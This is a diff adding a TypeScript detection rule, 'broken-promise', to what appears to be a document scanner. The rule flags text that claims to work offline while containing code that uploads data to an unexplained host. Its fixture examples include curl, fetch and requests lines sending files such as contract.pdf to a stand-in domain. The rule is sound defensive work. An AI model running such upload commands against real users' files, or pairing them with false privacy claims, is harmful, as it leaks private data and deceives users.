@@ -1,0 +1,73 @@
+import type { Document } from '../../document.ts'
+import { defineRule, type Hit } from '../../rule.ts'
+import { blocks, requestsIn } from '../../signals/blocks.ts'
+import { candidates } from '../../signals/candidates.ts'
+import { commands } from '../../signals/commands.ts'
+import { isForeign, isLocal } from '../../signals/hosts.ts'
+import { paragraphs } from '../../signals/paragraphs.ts'
+import { everyPipeline } from '../../signals/programs.ts'
+import { sendingOf } from '../../signals/sendings.ts'
+import { prose, sentencesIn } from '../../signals/statements.ts'
+import { worded } from '../../wording.ts'
+
+/** The reader is promised that nothing leaves the machine. */
+const PROMISE = worded(
+  /\b(?:100 ?%|fully|completely|entirely|strictly|purely|works?|runs?) (?:offline|local(?:ly)?|on[- ]device|air-?gapped)\b|\b(?:no|without any|without) (?:data|files?|text|contents?|documents?|network (?:calls|access|requests|traffic)|uploads?)\b[^.!?\n]{0,30}\b(?:leav(?:es?|ing)|sent|uploaded|transmitted|shared|made)\b|\bnothing (?:ever )?(?:leaves|is (?:ever )?(?:sent|uploaded|transmitted|shared))\b|\b(?:data|files|documents|everything|text|contents?|they|it) (?:\w{1,10} )?never leaves?\b|\bmakes no network (?:calls|requests)\b|\bno network\b/,
+)
+
+/** Of a part alone, or of another program. */
+const OF_ELSE =
+  /\b(?:unless|except|other than|apart from|only (?:the|when|if)|if (?:the|you|it)|by default|optional\w{0,2}|until)\b/
+
+export default defineRule({
+  id: 'broken-promise',
+  since: 1,
+  category: 'declaration',
+  severity: 'high',
+  confidence: 'medium',
+  cwe: 'CWE-451',
+  title: 'Promises that nothing leaves, and sends it',
+  description:
+    'The text says that it works offline or that no data leaves the machine, and has a command or a program that hands something to an unexplained host. People entrust it with what they would otherwise keep.',
+  remediation: 'Take out the request, or the promise.',
+  harmlessIf: 'what is sent is named elsewhere, and the promise is about something else',
+  needs: [['network', 'fetcher', 'mailer'], ['url']],
+  examples: {
+    fires: [
+      'Works 100% offline.\n\n```python\nimport requests\nrequests.post("https://in.pier-tools.net/c", files={"doc": doc})\n```\n',
+      'No data leaves your computer.\n\n```bash\ncurl -F "file=@contract.pdf" https://read.pier-tools.net/pages\n```\n',
+      'Nothing is ever uploaded.\n\n```js\nawait fetch("https://in.pier-tools.net/t", { method: "POST", body: text })\n```\n',
+    ],
+    quiet: [
+      'Works 100% offline.\n\n```python\nrequests.post("http://localhost:8080/c", files={"doc": doc})\n```\n',
+      'Nothing is uploaded unless the user asks for it.\n\n```bash\ncurl -F "file=@notes.md" https://read.pier-tools.net/pages\n```\n',
+      'The pages are read by a service.\n\n```bash\ncurl -F "file=@notes.md" https://read.pier-tools.net/pages\n```\n',
+    ],
+  },
+  *match(document: Document): Iterable<Hit> {
+    if (!isPromised(document)) return
+    for (const place of handedOver(document)) yield { ...place, firm: true, spoken: true }
+  },
+})
+
+function isPromised(document: Document): boolean {
+  const text = document.observe(prose)
+  return candidates(document, document.observe(paragraphs), PROMISE).some(({ start, end }) =>
+    [...sentencesIn(text, start, end)].some(([from, to]) => {
+      const sentence = text.slice(from, to)
+      return PROMISE.test(sentence) && !OF_ELSE.test(sentence)
+    }),
+  )
+}
+
+/** Where something is sent to a host that the text gives no reason for. */
+function* handedOver(document: Document): Generator<{ start: number; end: number }> {
+  const isAbroad = (address: string) =>
+    address !== '' && !isLocal(address) && isForeign(document, address)
+  for (const { pipelines, start, end } of document.observe(commands))
+    for (const { commands: list } of everyPipeline(pipelines))
+      if (list.some((command) => sendingOf(command)?.addresses.some(isAbroad))) yield { start, end }
+  for (const block of document.observe(blocks))
+    for (const { start, end, address } of requestsIn(document, block))
+      if (isAbroad(address)) yield { start, end }
+}
